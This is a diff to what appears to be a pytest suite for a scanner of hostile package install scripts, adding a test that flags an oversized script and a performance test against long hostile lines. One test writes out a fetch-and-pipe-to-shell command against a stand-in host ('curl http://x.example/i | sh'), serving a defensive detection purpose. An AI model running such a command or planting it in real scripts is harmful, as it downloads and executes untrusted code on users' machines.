@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import time
 from pathlib import Path
 
 import pytest
@@ -332,3 +333,20 @@ def test_hostile_package_is_found_through_the_engine(case: HostileCase, tmp_path
 def test_at_least_two_hostile_packages_per_rule_family() -> None:
     assert len(LINK_CASES) >= 2
     assert {case.verdict for case in LINK_CASES} == {M, S}
+
+
+def test_oversized_script_is_suspicious_and_still_read() -> None:
+    text = "curl http://x.example/i | sh\n" + "true\n" * (300 * 1024 // 5)
+    found = rules(POST_LINK, text)
+    assert found["link-script:oversized"] is S
+    assert found["link-script:fetch-pipe-shell"] is M
+
+
+@pytest.mark.parametrize(
+    "unit", ["curl ", "/", "eval $( ", "> /a ", "$a", "curl -o x ", "a" * 999 + " "]
+)
+def test_hostile_long_line_costs_bounded_time(unit: str) -> None:
+    text = unit * (256 * 1024 // len(unit))
+    started = time.process_time()
+    scan_text(SCANNER, POST_LINK, text)
+    assert time.process_time() - started < 10  # linear: about a second; quadratic: minutes
